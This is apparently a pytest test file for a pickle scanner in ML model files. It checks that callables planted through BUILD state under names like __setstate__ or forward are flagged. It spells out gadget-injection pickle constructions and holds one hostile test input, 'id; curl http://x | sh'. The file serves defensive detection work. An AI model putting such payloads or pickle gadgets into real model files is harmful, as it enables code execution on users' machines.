"""Attributes a plain BUILD state sets on an allowlisted object, which code outside the stream
calls later (``pickles/_attrs.py``): a non-allowlisted callable stored under a name the loader
(``__setstate__``), saving or copying (``__reduce_ex__``, ``__deepcopy__``) or the user's next
normal call (``forward``, ``predict``, ...) looks up on the instance is high; the same names
holding data, and operator dunders Python looks up on the type, stay as they were.

The loader case is checked against CPython's unpickler in a subprocess: real
``argparse.Namespace`` and scikit-learn classes, a recording stand-in for the gadget.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys

import pytest

from mlstix.scan.models.pickles.allowlist import ImportPolicy
from mlstix.scan.models.pickles.analyze import analyze_pickle_stream
from mlstix.scan.models.pickles.result import PickleResult

from . import builders as b
from .differential import mlstix_levels

_GADGET = ("string", "capwords")  # exists everywhere, allowlisted nowhere, not a denied name
_QUAL = ".".join(_GADGET)
_NAMESPACE = b.global_op("argparse", "Namespace") + b")\x81"  # Namespace() by NEWOBJ
_ESTIMATOR = b.global_op("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81"


def _analyze(data: bytes) -> PickleResult:
    return analyze_pickle_stream(io.BytesIO(data), ImportPolicy())


def _state(key: str, value: bytes) -> bytes:
    return b"}" + b.unicode_op(key) + value + b"s"


def _with(obj: bytes, key: str, value: bytes = b.global_op(*_GADGET)) -> bytes:
    return b"\x80\x02" + obj + _state(key, value) + b"b."


_REAL_LOAD = r"""
import json, pickle, sys
calls = []
def gadget(*args):
    calls.append([repr(a) for a in args])
class U(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) == ("string", "capwords"):
            return gadget
        return super().find_class(module, name)
U(sys.stdin.buffer).load()
print(json.dumps(calls))
"""


def _real_calls(data: bytes) -> list[list[str]]:
    """What CPython's unpickler calls the gadget with (a recorder stands in for it)."""
    out = subprocess.run(
        [sys.executable, "-c", _REAL_LOAD], input=data, capture_output=True, check=True,
        timeout=60,
    )  # fmt: skip
    calls: list[list[str]] = json.loads(out.stdout)
    return calls


@pytest.mark.parametrize("obj", [_NAMESPACE, _ESTIMATOR], ids=["namespace", "estimator"])
@pytest.mark.parametrize("arg", ["hello", "id; curl http://x | sh"], ids=["plain", "command"])
def test_a_setstate_an_earlier_build_set_is_called_by_the_loader(obj: bytes, arg: str) -> None:
    """BUILD {"__setstate__": gadget}, then BUILD again on the same object: load_build takes
    ``__setstate__`` from the instance and calls the gadget with the second state."""
    if obj is _ESTIMATOR:
        pytest.importorskip("sklearn", reason="the real estimator class is needed")
    data = (
        b"\x80\x02" + obj + _state("__setstate__", b.global_op(*_GADGET)) + b"b"
        + b"V" + arg.encode() + b"\nb."
    )  # fmt: skip
    assert _real_calls(data) == [[repr(arg)]]
    result = _analyze(data)
    assert mlstix_levels(result).get(_QUAL, 0) == (4 if arg != "hello" else 3)
    assert result.imports[_QUAL].called


@pytest.mark.parametrize(
    "key",
    ["forward", "predict", "transform", "__reduce_ex__", "__deepcopy__", "get_params",
     "__sklearn_tags__", "__sklearn_is_fitted__", "_validate_data", "summary", "_modules"],
)  # fmt: skip
@pytest.mark.parametrize("obj", [_NAMESPACE, _ESTIMATOR], ids=["namespace", "estimator"])
def test_a_gadget_under_a_name_a_normal_call_looks_up_is_high(key: str, obj: bytes) -> None:
    result = _analyze(_with(obj, key))
    assert mlstix_levels(result).get(_QUAL, 0) == 3
    hits = [h for h in result.hits(None, "pickle") if h.evidence.get("import") == _QUAL]
    assert hits and f"its {key}" in hits[0].message


def test_a_gadget_wrapped_in_a_partial_under_forward_is_high() -> None:
    partial = b.global_op("functools", "partial") + b.global_op(*_GADGET) + b"\x85R"
    assert mlstix_levels(_analyze(_with(_NAMESPACE, "forward", partial))).get(_QUAL, 0) == 3


def test_a_dict_set_through_the_slot_state_is_the_instance_dict() -> None:
    """``BUILD (None, {"__dict__": {...}})``: setattr replaces the instance dict."""
    inner = _state("forward", b.global_op(*_GADGET))
    data = b"\x80\x02" + _NAMESPACE + b"N}" + b.unicode_op("__dict__") + inner + b"s\x86b."
    assert mlstix_levels(_analyze(data)).get(_QUAL, 0) == 3


@pytest.mark.parametrize(
    "state",
    [
        b.global_op("builtins", "dict") + b"]" + b.unicode_op("forward")
        + b.global_op(*_GADGET) + b"\x86a\x85R",
        b.global_op("collections", "OrderedDict") + b")R" + b.unicode_op("forward")
        + b.global_op(*_GADGET) + b"s",
        b"N" + b.global_op("builtins", "dict") + b")R"
        + b.unicode_op("__dict__") + b.global_op("builtins", "dict") + b")R"
        + b.unicode_op("forward") + b.global_op(*_GADGET) + b"ss\x86",
    ],
    ids=["dict-from-pairs", "ordereddict-setitem", "slot-dict-of-dicts"],
)  # fmt: skip
def test_a_state_dict_the_stream_builds_by_a_call_is_a_state_dict(state: bytes) -> None:
    """``dict([("forward", gadget)])`` or an ``OrderedDict`` filled by SETITEM as the BUILD
    state: ``inst.__dict__.update`` / ``setattr`` take its items as well."""
    data = b"\x80\x02" + _NAMESPACE + state + b"b."
    assert mlstix_levels(_analyze(data)).get(_QUAL, 0) == 3


@pytest.mark.parametrize("key", ["__call__", "__getattr__", "__repr__"])
def test_operator_dunders_on_the_instance_stay_medium(key: str) -> None:
    """Python takes operator dunders from the type: set on the instance they never run."""
    assert mlstix_levels(_analyze(_with(_NAMESPACE, key))).get(_QUAL, 0) == 2


@pytest.mark.parametrize("key", ["helper", "func", "score_func", "analyzer", "kernel"])
def test_any_other_name_keeps_the_callable_for_later(key: str) -> None:
    """Libraries call what an object holds under names no fixed list covers
    (``FunctionTransformer.func``, ``SelectKBest.score_func``, a vectorizer's ``analyzer``, an
    SVC's ``kernel``): a non-allowlisted callable stored under any name is high."""
    result = _analyze(_with(_NAMESPACE, key))
    assert mlstix_levels(result).get(_QUAL, 0) == 3
    hits = [h for h in result.hits(None, "pickle") if h.evidence.get("import") == _QUAL]
    assert "kept by argparse.Namespace" in hits[0].message


@pytest.mark.parametrize(
    "value",
    [b"\x88", b.unicode_op("predict_proba"), b.global_op("collections", "OrderedDict")],
    ids=["flag", "text", "allowlisted-class"],
)
@pytest.mark.parametrize("key", ["forward", "predict", "__setstate__", "_modules"])
def test_the_same_names_holding_data_are_clean(key: str, value: bytes) -> None:
    assert mlstix_levels(_analyze(_with(_ESTIMATOR, key, value))) == {}


def test_a_setstate_holding_data_is_an_error_where_the_loader_fails() -> None:
    """A second BUILD whose ``__setstate__`` is a string: the loader fails calling it, and
    the analysis reports the stream as malformed there (nothing runs)."""
    data = _with(_NAMESPACE, "__setstate__", b.unicode_op("x"))[:-1] + b"Vy\nb."
    with pytest.raises(subprocess.CalledProcessError, match="non-zero"):
        _real_calls(data)
    result = _analyze(data)
    assert result.malformed is not None and "__setstate__" in result.malformed[0]
    assert mlstix_levels(result) == {}
